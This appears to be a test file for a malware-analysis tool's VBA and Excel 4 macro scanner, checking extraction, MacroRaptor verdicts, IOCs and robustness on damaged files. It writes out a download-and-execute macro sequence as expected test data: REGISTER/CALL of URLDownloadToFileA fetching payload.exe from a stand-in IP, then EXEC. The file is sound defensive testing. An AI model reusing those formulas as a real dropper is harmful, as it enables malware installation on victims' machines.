/**
 * The vba worker on real VBA projects written by LibreOffice's VBA exporter (.xls, .xlsm's
 * vbaProject.bin, and a .doc assembled from them): the module source must hold the exact text the
 * fixture put in; MacroRaptor's verdicts follow from oletools' regexes. Excel 4 macros: the BIFF8
 * workbook constructed per [MS-XLS], compared with how LibreOffice itself reads it. PowerPoint
 * 97-2003: a .ppt constructed per [MS-PPT] around LibreOffice's project gives back the same
 * storage and module text, and LibreOffice still reads the constructed file's slides.
 */
import { deepEqual, equal, match, ok } from "node:assert/strict";
import type { WorkerResponse } from "../../core/engine/plugin.ts";
import vba from "../../plugins/vba.ts";
import { decompress, parseDir } from "../../plugins/lib/office/ovba.ts";
import { macroRaptor } from "../../plugins/lib/office/vba_scan.ts";
import { runStoq, show } from "../cli_helpers.ts";
import { instantiate, makePayload, makeRequest, sh, sha256, tempDir } from "../helpers.ts";
import { realFiles } from "../realfiles.ts";
import { EVIL_MACRO, officeFiles, WORD_MACRO } from "../fixtures/office_files.ts";
import { pptFiles } from "../fixtures/ppt_files.ts";
import { CompoundFile } from "../../plugins/lib/office/cfb.ts";
import { readPpt } from "../../plugins/lib/office/ppt.ts";

type Results = Record<string, unknown> & {
  vba_projects: { modules: { name: string; stream: string }[] }[];
  mraptor?: { flags: string; suspicious: boolean };
  autoexec?: { keyword: string }[];
  suspicious?: { keyword: string }[];
  iocs?: Record<string, string[]>;
  findings?: { id: string; severity: string; detail: string }[];
};

async function scan(content: Uint8Array) {
  const { instance, call } = await instantiate(vba);
  const p = makePayload(content);
  const res = await instance.scan!(p, makeRequest(p), call) as WorkerResponse;
  return { res, r: res.results as Results };
}

const lf = (s: string) => s.replaceAll("\r\n", "\n");

Deno.test("vba: module source of LibreOffice's .xls, .xlsm vbaProject.bin and a .doc holds the macro text", async () => {
  const office = await officeFiles();
  const real = await realFiles();
  const cases: [string, string, string, string][] = [
    [office["evil.xls"], "Module1", EVIL_MACRO, "AWX"],
    [office["vbaProject.bin"], "Module1", EVIL_MACRO, "AWX"],
    [office["macro.doc"], "NewMacros", WORD_MACRO, "A-X"],
    [
      real["macro.xls"],
      "Module1",
      'Sub Workbook_Open()\n  MsgBox "stoq test macro"\nEnd Sub',
      "A--",
    ],
  ];
  for (const [path, module, text, flags] of cases) {
    const { res, r } = await scan(await Deno.readFile(path));
    deepEqual(res.errors, [], path);
    const kid = res.extracted!.find((k) => k.payload_meta?.extra_data?.vba_module === module);
    ok(kid, `${path}: module ${module} is a child`);
    equal(kid.payload_meta?.extra_data?.filename, `${module}.bas`);
    const code = lf(kid.content as string);
    ok(code.includes(text), `${path}: source\n${code}\nlacks\n${text}`);
    match(code, new RegExp(`^Attribute VB_Name = "${module}"\n`));
    equal(r.mraptor!.flags, flags, path);
    equal(r.mraptor!.suspicious, flags !== "A--");
  }
});

Deno.test("vba: olevba's keywords, IOCs and findings on the evil workbook", async () => {
  const office = await officeFiles();
  const { r } = await scan(await Deno.readFile(office["evil.xls"]));
  deepEqual(r.autoexec!.map((k) => k.keyword), ["Workbook_Open"]);
  deepEqual(
    r.suspicious!.map((k) => k.keyword).sort(),
    ["Binary", "Environ", "Lib", "Open", "Shell", "URLDownloadToFileA", "vbHide"].sort(),
  );
  deepEqual(r.iocs, {
    ipv4: ["192.0.2.10"],
    url: ["http://192.0.2.10/stage2.exe"],
    executable_names: ["stage2.exe"],
  });
  deepEqual(
    r.findings!.map((f) => [f.id, f.severity]),
    [["autoexec_macro", "medium"], ["suspicious_keyword", "medium"], [
      "mraptor_suspicious",
      "high",
    ]],
  );
  equal(r.vba_projects[0].modules[0].stream, "_VBA_PROJECT_CUR/VBA/Module1");
});

Deno.test("vba: MacroRaptor's regexes as oletools writes them", () => {
  equal(macroRaptor("Sub Document_Open()\nx = 1\nEnd Sub").flags, "A--");
  equal(macroRaptor('Sub Foo()\nKill "a"\nEnd Sub').flags, "-W-");
  equal(macroRaptor('Sub AutoOpen()\nOpen "x" For Output As #1\nEnd Sub').flags, "AW-");
  equal(macroRaptor('Private Declare Function F Lib "k"\nSub Auto_Close()\nEnd Sub').flags, "A-X");
  // A line continuation joins Declare and Lib onto one line, as olevba collapses it.
  equal(macroRaptor('Declare Function F _\n Lib "k"\nSub Button1_Click()\nEnd Sub').flags, "A-X");
  // Workbook_Open contains "Open" but not as a word: no write.
  equal(macroRaptor("Sub Workbook_Open()\nEnd Sub").flags, "A--");
  equal(macroRaptor("Sub x()\nShellExecuteA 0\nEnd Sub").suspicious, false);
});

Deno.test("vba: Excel 4 macro sheet: sheets, names and formulas as LibreOffice reads them", async () => {
  const office = await officeFiles();
  const lo = JSON.parse(await Deno.readTextFile(office["xlm_lo.json"])) as {
    sheets: { name: string; visible: boolean }[];
    cells: Record<string, string[]>;
    names: [string, string][];
  };
  const { res, r } = await scan(await Deno.readFile(office["xlm.xls"]));
  deepEqual(res.errors, []);
  const wb = r.workbook as {
    sheets: { name: string; type: string; state: string }[];
    defined_names: { name: string; formula: string }[];
  };
  deepEqual(
    wb.sheets.map((s) => [s.name, s.state !== "visible"]),
    lo.sheets.map((s) => [s.name, !s.visible]),
  );
  deepEqual(wb.sheets.map((s) => [s.type, s.state]), [
    ["worksheet", "visible"],
    ["macro_sheet", "hidden"],
    ["worksheet", "very_hidden"],
  ]);
  // LibreOffice names the built-in Auto_Open "Excel_BuiltIn_Auto_Open" and writes $Sheet.$A$1.
  deepEqual(lo.names, [["Excel_BuiltIn_Auto_Open", "$Macro1.$A$1"]]);
  deepEqual(wb.defined_names.map((n) => [n.name, n.formula]), [["Auto_Open", "Macro1!$A$1"]]);
  const cells =
    (r.xlm_macros as Record<string, { cell: string; formula?: string; value?: unknown }[]>).Macro1;
  const shown = cells.map((c) => c.formula ?? String(c.value));
  // LibreOffice renders what it knows; XLM-only functions become #NAME! there.
  lo.cells.Macro1.forEach((f, i) => {
    if (f && !f.includes("#NAME!")) equal(shown[i], f, `cell A${i + 1}`);
  });
  deepEqual(shown, [
    '=REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","Download")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://192.0.2.10/payload.exe","C:\\Users\\Public\\p.exe",0,0)',
    '=EXEC("C:\\Users\\Public\\p.exe")',
    '=ALERT("Done",2)',
    "=CHAR(65)",
    "urlmon",
    '=A6&".dll"',
    "=HALT()",
  ]);
  equal(cells[6].value, "urlmon.dll");
  const ids = r.findings!.map((f) => f.id);
  for (
    const id of [
      "xlm_macro_sheet",
      "hidden_sheet",
      "very_hidden_sheet",
      "xlm_auto_open",
      "xlm_suspicious_function",
      "mraptor_suspicious",
    ]
  ) ok(ids.includes(id), `${id} in ${ids}`);
  const fn = r.findings!.find((f) => f.id === "xlm_suspicious_function")!;
  for (const w of ["EXEC", "CALL", "REGISTER", "URLDownloadToFileA"]) {
    ok(fn.detail.includes(w), fn.detail);
  }
  const sheetKid = res.extracted!.find((k) => k.payload_meta?.extra_data?.xlm_sheet === "Macro1");
  ok(sheetKid && (sheetKid.content as string).includes("Macro1!A3: =EXEC("));
});

Deno.test("vba: MS-OVBA decompression and the dir parser are bounded on hostile bytes", async () => {
  // Literal-only chunk, then a copy token: "abcabcabc" compresses to a short token sequence.
  const plain = new TextEncoder().encode(
    "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa",
  );
  const out = decompress(Uint8Array.from([0x01, ...chunkOf(plain)]));
  equal(new TextDecoder().decode(out.data), new TextDecoder().decode(plain));
  const rnd = prng(11);
  for (let i = 0; i < 500; i++) {
    const junk = Uint8Array.from(
      { length: 1 + Math.floor(rnd() * 300) },
      () => Math.floor(rnd() * 256),
    );
    junk[0] = 1;
    const r = decompress(junk, 4096);
    ok(r.data.length <= 4096);
    parseDir(r.data);
  }
  const office = await officeFiles();
  const data = await Deno.readFile(office["evil.xls"]);
  for (let n = 0; n < data.length; n += 61) {
    const { res } = await scan(data.slice(0, n));
    for (const e of res.errors ?? []) match(String(e), /^vba: /);
  }
  for (let round = 0; round < 300; round++) {
    const bad = data.slice();
    for (let k = 0; k < 6; k++) bad[Math.floor(rnd() * bad.length)] = Math.floor(rnd() * 256);
    await scan(bad);
  }
  const xlm = await Deno.readFile(office["xlm.xls"]);
  for (let round = 0; round < 300; round++) {
    const bad = xlm.slice();
    for (let k = 0; k < 6; k++) bad[512 + Math.floor(rnd() * 706)] = Math.floor(rnd() * 256);
    await scan(bad);
  }
});

/** An uncompressed chunk ([MS-OVBA] 2.4.1.1.4 with CompressedChunkFlag 0) padded to 4096 bytes. */
function chunkOf(data: Uint8Array): Uint8Array {
  const body = new Uint8Array(4096);
  body.set(data);
  const header = 0x3000 | (4096 + 2 - 3);
  return Uint8Array.from([header & 0xff, header >> 8, ...body]).subarray(0, 2 + data.length);
}

function prng(seed: number) {
  return () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
}

Deno.test("vba: stoq scan with no flags gives macro source children and verdicts", async () => {
  const office = await officeFiles();
  for (
    const [file, module, flags] of [["evil.xls", "Module1", "AWX"], [
      "macro.doc",
      "NewMacros",
      "A-X",
    ]] as const
  ) {
    const run = await runStoq(["scan", office[file]]);
    equal(run.code, 0, show(run));
    const doc = JSON.parse(run.stdout);
    const root = doc.results[0];
    equal(root.workers.vba.mraptor.flags, flags, show(run));
    const kid = doc.results.find((r: { payload_meta: { extra_data: Record<string, unknown> } }) =>
      r.payload_meta.extra_data.vba_module === module
    );
    ok(kid, `${module}.bas child`);
    const { res } = await scan(await Deno.readFile(office[file]));
    const code = res.extracted!.find((k) =>
      k.payload_meta?.extra_data?.vba_module === module
    )!.content;
    equal(kid.workers.hash.sha256, sha256(code as string));
  }
  const run = await runStoq(["scan", office["xlm.xls"]]);
  const root = JSON.parse(run.stdout).results[0];
  ok(root.workers.vba.findings.some((f: { id: string }) => f.id === "xlm_macro_sheet"), show(run));
  equal(root.workers.vba.xlm_macros.Macro1[2].formula, '=EXEC("C:\\Users\\Public\\p.exe")');
});

Deno.test("vba: a .ppt's project (compressed ExOleObjStg) round-trips: the storage and the module text", async () => {
  // macro.ppt is constructed (no free tool writes VBA into a .ppt): see tests/fixtures/ppt_files.ts.
  const ppt = await pptFiles();
  const office = await officeFiles();
  const { res, r } = await scan(await Deno.readFile(ppt["macro.ppt"]));
  deepEqual(res.errors, []);
  const bin = await Deno.readFile(office["vbaProject.bin"]);
  const storage = r.ppt_vba_storage as Record<string, unknown>;
  equal(storage.sha256, sha256(bin), "the decompressed storage is LibreOffice's vbaProject.bin");
  equal(storage.size, bin.length);
  equal(storage.compressed, true);
  const project = (r.vba_projects as unknown as Record<string, unknown>[])[0];
  equal(project.storage, `PowerPoint Document@${storage.offset}`);
  const kid = res.extracted!.find((k) => k.payload_meta?.extra_data?.vba_module === "Module1")!;
  ok(lf(kid.content as string).includes(EVIL_MACRO));
  // The same module as the vbaProject.bin itself gives, byte for byte.
  const direct = (await scan(bin)).res.extracted!.find((k) =>
    k.payload_meta?.extra_data?.vba_module === "Module1"
  )!;
  equal(kid.content, direct.content);
  equal(r.mraptor!.flags, "AWX");
  // LibreOffice follows the appended edit: its PDF export of macro.ppt has text.ppt's slides.
  const dir = await tempDir("ppt-pdf-");
  for (const name of ["macro.ppt", "text.ppt"] as const) {
    await sh("soffice", [
      `-env:UserInstallation=file://${dir}/profile`,
      "--headless",
      "--convert-to",
      "pdf",
      "--outdir",
      dir,
      ppt[name],
    ]);
  }
  const text = (n: string) => sh("pdftotext", ["-enc", "UTF-8", `${dir}/${n}.pdf`, "-"]);
  equal(await text("macro"), await text("text"));
  // A .ppt without a project: nothing, no errors.
  const plain = await scan(await Deno.readFile(ppt["text.ppt"]));
  deepEqual(plain.res.errors, []);
  equal(plain.r.macros, false);
});

Deno.test("vba: a .ppt whose project record is damaged gives a named error", async () => {
  const ppt = await Deno.readFile((await pptFiles())["macro.ppt"]);
  const cfb = new CompoundFile(ppt);
  const stream = cfb.read(cfb.find("PowerPoint Document")!);
  const user = cfb.read(cfb.find("Current User")!);
  const limits = { maxVbaSize: 1 << 20, maxChars: 0 };
  const good = readPpt(stream, user, limits);
  const at = good.vba!.offset;
  // zlib data overwritten: a zlib error naming the record's offset.
  const bad = stream.slice();
  bad.fill(0x41, at + 14, at + 40);
  deepEqual(readPpt(bad, user, limits).errors.map((e) => e.split(":")[0]), [
    `VBA project at offset ${at}`,
  ]);
  // A decompressed size over the limit is refused before inflating.
  const big = readPpt(stream, user, { maxVbaSize: 100, maxChars: 0 });
  match(big.errors[0], /^VBA project: \d+ bytes decompressed, over the 100 limit$/);
  // A size field smaller than the data: inflate stops at the stated size.
  const lying = stream.slice();
  new DataView(lying.buffer).setUint32(at + 8, 64, true);
  match(readPpt(lying, user, limits).errors[0], /^VBA project at offset \d+: zlib: /);
});

Deno.test("vba: ./stoq scan macro.ppt with no flags gives the module child and the slides' text", async () => {
  const ppt = await pptFiles();
  const run = await runStoq(["scan", ppt["macro.ppt"]]);
  equal(run.code, 0, show(run));
  const doc = JSON.parse(run.stdout);
  const root = doc.results[0];
  equal(root.workers.vba.mraptor.flags, "AWX", show(run));
  const kid = doc.results.find((r: { payload_meta: { extra_data: Record<string, unknown> } }) =>
    r.payload_meta.extra_data.vba_module === "Module1"
  );
  const { res } = await scan(await Deno.readFile(ppt["macro.ppt"]));
  const code = res.extracted!.find((k) => k.payload_meta?.extra_data?.vba_module === "Module1")!;
  equal(kid.workers.hash.sha256, sha256(code.content as string));
  const text = doc.results.find((r: { payload_meta: { extra_data: Record<string, unknown> } }) =>
    r.payload_meta.extra_data.source === "textreader"
  );
  equal(root.workers.textreader.slides, 3);
  ok(text.workers.iocextract.url.includes("https://pay.example.com/ppt/4471"), show(run));
  deepEqual(
    doc.errors.filter((e: { plugin_name: string }) =>
      ["vba", "textreader"].includes(e.plugin_name)
    ),
    [],
  );
});
